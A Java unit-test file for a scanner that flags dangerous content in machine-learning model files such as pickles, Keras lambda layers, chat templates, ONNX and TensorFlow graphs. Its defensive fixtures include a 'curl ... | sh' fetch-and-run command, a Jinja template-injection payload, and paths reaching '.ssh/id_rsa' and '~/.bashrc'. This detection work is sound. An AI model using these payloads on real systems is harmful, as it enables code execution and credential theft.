package cordon.inspect.model;

import static org.assertj.core.api.Assertions.assertThat;

import cordon.inspect.fact.Behaviour;
import cordon.inspect.fact.Fact;
import cordon.inspect.fact.FileFacts;
import cordon.inspect.fact.Reference;
import cordon.inspect.rules.Rules;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.zip.Deflater;
import org.junit.jupiter.api.Test;

class ModelFormatsTest {
  private static final ModelReader READER = new ModelReader(Rules.own(false).build().vocabulary());

  private static List<String> details(String path, byte[] content) {
    return READER.read(path, content).facts().stream().map(Fact::detail).toList();
  }

  private static List<String> details(String path, String content) {
    return details(path, content.getBytes(StandardCharsets.UTF_8));
  }

  private static byte[] numpy(String header, byte[] body) {
    return new Pickles()
        .bytes(0x93)
        .raw("NUMPY".getBytes(StandardCharsets.US_ASCII))
        .bytes(1, 0)
        .number(header.length(), 2)
        .raw(header.getBytes(StandardCharsets.US_ASCII))
        .raw(body)
        .done();
  }

  @Test
  void anArrayOfObjectsIsAPickle() {
    String header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n";
    assertThat(details("a.npy", numpy(header, Pickles.harm()))).contains("dangerous:os.system");
    assertThat(details("a.npy", numpy(header.replace("|O", "\\x7cO"), Pickles.harm())))
        .contains("dangerous:os.system");
    String numbers = header.replace("|O", "<f8");
    assertThat(READER.read("a.npy", numpy(numbers, new byte[8])).facts()).isEmpty();
    assertThat(READER.read("a.npy", numpy(numbers, new byte[8])).complete()).isTrue();
  }

  @Test
  void compressionIsUndone() {
    Deflater deflater = new Deflater();
    deflater.setInput(Pickles.harm());
    deflater.finish();
    byte[] packed = new byte[200];
    int length = deflater.deflate(packed);
    deflater.end();
    byte[] zlib = java.util.Arrays.copyOf(packed, length);
    assertThat(details("a.joblib", zlib)).contains("dangerous:os.system");
    assertThat(details("a.bin", zlib)).contains("dangerous:os.system");
    assertThat(READER.read("a.joblib", new byte[] {4, 0x22, 0x4d, 0x18, 0, 0}).complete())
        .isFalse();
  }

  @Test
  void lambdaLayersAreJudgedByTheNamesInTheirCode() {
    byte[] harmful = marshalled("os", "system", "echo inert");
    byte[] harmless = marshalled("tf", "square", "x");
    for (String layer :
        List.of(
            "{\"class_name\": \"Lambda\", \"config\": {\"function\": [\"%s\", null, null],"
                + " \"function_type\": \"lambda\"}}",
            "{\"class_name\": \"Lambda\", \"config\": {\"function\": {\"class_name\":"
                + " \"__lambda__\", \"config\": {\"code\": \"%s\"}}}}")) {
      String model = "{\"class_name\": \"Sequential\", \"config\": {\"layers\": [" + layer + "]}}";
      String evil =
          model.formatted(Base64.getMimeEncoder().encodeToString(harmful).replace("\r\n", "\\n"));
      String mild = model.formatted(Base64.getEncoder().encodeToString(harmless));
      assertThat(details("m.keras!/config.json", evil)).contains("dangerous:os.system");
      assertThat(details("m.keras!/config.json", mild))
          .containsExactly("unknown:compiled Python in a layer");
      byte[] hdf5 =
          new Pickles()
              .bytes(0x89)
              .raw("HDF\r\n\u001a\n".getBytes(StandardCharsets.ISO_8859_1))
              .raw(new byte[100])
              .raw(evil.getBytes(StandardCharsets.UTF_8))
              .raw(new byte[50])
              .done();
      assertThat(details("m.h5", hdf5)).contains("dangerous:os.system");
    }
  }

  @Test
  void namesInCodeAreToldApartByTheirLengths() {
    // The length of the command is a letter that joins it to the name before it.
    byte[] harmful = marshalled("subprocess", "curl -s http://192.0.2.63/k | sh; : pad", "Popen");
    String layer =
        "{\"class_name\": \"Lambda\", \"config\": {\"function\": {\"class_name\": \"__lambda__\","
            + " \"config\": {\"code\": \"%s\\n\"}}}}";
    assertThat(
            details(
                "m.keras!/config.json",
                layer.formatted(Base64.getEncoder().encodeToString(harmful))))
        .contains("dangerous:subprocess.Popen");
  }

  private static byte[] marshalled(String... names) {
    Pickles code = new Pickles().bytes('c' | 0x80).raw(new byte[40]);
    for (String name : names) {
      code.bytes(name.length() > 32 ? 0x7A : 0xDA, name.length())
          .raw(name.getBytes(StandardCharsets.US_ASCII));
    }
    return code.bytes(0xFA).done();
  }

  @Test
  void objectsOfAKerasModelComeFromKeras() {
    String object =
        "{\"class_name\": \"%s\", \"module\": \"%s\", \"config\": %s, \"registered_name\": null}";
    assertThat(details("config.json", object.formatted("function", "os", "\"system\"")))
        .containsExactly("dangerous:os.system");
    assertThat(details("config.json", object.formatted("Popen", "subprocess", "{}")))
        .containsExactly("dangerous:subprocess.Popen");
    assertThat(details("config.json", object.formatted("Dense", "keras.layers", "{}"))).isEmpty();
    assertThat(details("config.json", object.formatted("Own", "mine.layers", "{}")))
        .containsExactly("unknown-class:mine.layers.Own");
  }

  @Test
  void settingsLeadToTheCodeThatTheyName() {
    FileFacts read =
        READER.read(
            "repo/config.json",
            "{\"auto_map\": {\"AutoModel\": \"modeling_own.OwnModel\"}, \"a\": 1}"
                .getBytes(StandardCharsets.UTF_8));
    assertThat(read.references())
        .extracting(Reference::target)
        .containsExactly(
            new Reference.File(List.of("modeling_own.py"), ""),
            new Reference.File(List.of("modeling_own.py"), "OwnModel"),
            new Reference.File(List.of("modeling_own.py"), "OwnModel.from_pretrained"));
    assertThat(details("config.json", "{\"auto_map\": {\"AutoModel\": \"else/where--m.M\"}}"))
        .containsExactly("unknown:code of another repository");
    assertThat(READER.read("config.json", "no json".getBytes(StandardCharsets.UTF_8)).complete())
        .isTrue();
  }

  @Test
  void chatTemplatesMustNotReachOut() {
    String harmless = "{% for m in messages %}{{ m['content'] }}{% endfor %}";
    String harmful = "{{ cycler.__init__.__globals__ }}";
    assertThat(details("chat_template.jinja", harmless)).isEmpty();
    assertThat(details("chat_template.jinja", harmful)).isNotEmpty();
    assertThat(details("tokenizer_config.json", "{\"chat_template\": \"" + harmful + "\"}"))
        .anySatisfy(d -> assertThat(d).startsWith("dangerous:chat template"));
    assertThat(details("m.gguf", gguf("tokenizer.chat_template", harmful, 1)))
        .anySatisfy(d -> assertThat(d).startsWith("dangerous:chat template"));
    assertThat(READER.read("m.gguf", gguf("tokenizer.chat_template", harmless, 1)).facts())
        .isEmpty();
    assertThat(READER.read("m.gguf", gguf("tokenizer.chat_template", harmless, 1)).complete())
        .isTrue();
    assertThat(READER.read("m.gguf", gguf("k", "v", 1L << 60)).complete()).isFalse();
  }

  private static byte[] gguf(String key, String value, long count) {
    return new Pickles()
        .raw("GGUF".getBytes(StandardCharsets.US_ASCII))
        .number(3, 4)
        .number(0, 8)
        .number(count, 8)
        .number(key.length(), 8)
        .raw(key.getBytes(StandardCharsets.UTF_8))
        .number(8, 4)
        .number(value.length(), 8)
        .raw(value.getBytes(StandardCharsets.UTF_8))
        .done();
  }

  @Test
  void safeTensorsHaveNoGapsAndNothingBehind() {
    String header = "{\"a\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]}}";
    assertThat(safe(header, 4).facts()).isEmpty();
    assertThat(safe(header, 4).complete()).isTrue();
    assertThat(safe(header, 3).complete()).isFalse();
    assertThat(safe(header, 9).facts())
        .extracting(Fact::behaviour)
        .containsExactly(Behaviour.CONCEALED);
    assertThat(safe(header.replace("[0,4]", "[1,4]"), 4).complete()).isFalse();
    assertThat(safe(header.replace("[0,4]", "[4,0]"), 4).complete()).isFalse();
    assertThat(safe(header.replace("}}", "}"), 4).complete()).isFalse();
    for (long length : List.of(90_000_000L, 1L << 60, -1L)) {
      byte[] broken = new Pickles().number(length, 8).bytes('{', '}').done();
      assertThat(READER.read("a.safetensors", broken).complete()).as("%d", length).isFalse();
    }
  }

  private static FileFacts safe(String header, int weights) {
    byte[] text = header.getBytes(StandardCharsets.UTF_8);
    byte[] content = new Pickles().number(text.length, 8).raw(text).raw(new byte[weights]).done();
    return READER.read("a.safetensors", content);
  }

  @Test
  void weightsOfOnnxStayInTheirFolder() {
    for (String outside : List.of("../../weights.bin", "/models/w.bin", "a/../../b", "C:\\x")) {
      assertThat(details("m.onnx", onnx(outside, "")))
          .contains("unknown:weights outside its folder");
    }
    assertThat(details("m.onnx", onnx("../../.ssh/id_rsa", "")))
        .contains("dangerous:weights outside its folder");
    assertThat(details("m.onnx", onnx("weights/model..bin", "ai.onnx"))).isEmpty();
    assertThat(details("m.onnx", onnx("w.bin", "own.ops")))
        .containsExactly("custom-operator:own.ops");
    assertThat(READER.read("m.onnx", new byte[] {0x3a, 0x7f}).complete()).isFalse();
  }

  private static byte[] onnx(String location, String domain) {
    byte[] entry = joined(field(1, bytes("location")), field(2, bytes(location)));
    byte[] tensor = field(13, entry);
    byte[] node = joined(field(4, bytes("Add")), field(7, bytes(domain)));
    return field(7, joined(field(1, node), field(5, tensor)));
  }

  @Test
  void operatorsThatReachOutAreNamed() {
    byte[] node = joined(field(1, bytes("n")), field(2, bytes("WriteFile")));
    byte[] inFunction = field(2, field(1, field(3, node)));
    for (byte[] graph : List.of(field(1, node), inFunction)) {
      assertThat(details("saved_model.pb", field(2, field(2, graph))))
          .containsExactly("unknown:tensorflow WriteFile");
    }
    byte[] text =
        field(
            5, joined(field(1, bytes("value")), field(2, field(8, field(8, bytes("~/.bashrc"))))));
    byte[] named = joined(field(1, node), field(1, joined(field(2, bytes("Const")), text)));
    assertThat(details("saved_model.pb", field(2, field(2, named))))
        .containsExactly("dangerous:tensorflow WriteFile");
    byte[] harmless = field(2, field(2, field(1, field(2, bytes("MatMul")))));
    assertThat(READER.read("saved_model.pb", harmless).facts()).isEmpty();
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] field(int number, byte[] content) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(number << 3 | 2);
    int length = content.length;
    while (length > 0x7F) {
      out.write(length & 0x7F | 0x80);
      length >>>= 7;
    }
    out.write(length);
    out.writeBytes(content);
    return out.toByteArray();
  }

  private static byte[] joined(byte[]... parts) {
    ByteBuffer all = ByteBuffer.allocate(10_000).order(ByteOrder.LITTLE_ENDIAN);
    for (byte[] part : parts) {
      all.put(part);
    }
    return java.util.Arrays.copyOf(all.array(), all.position());
  }
}
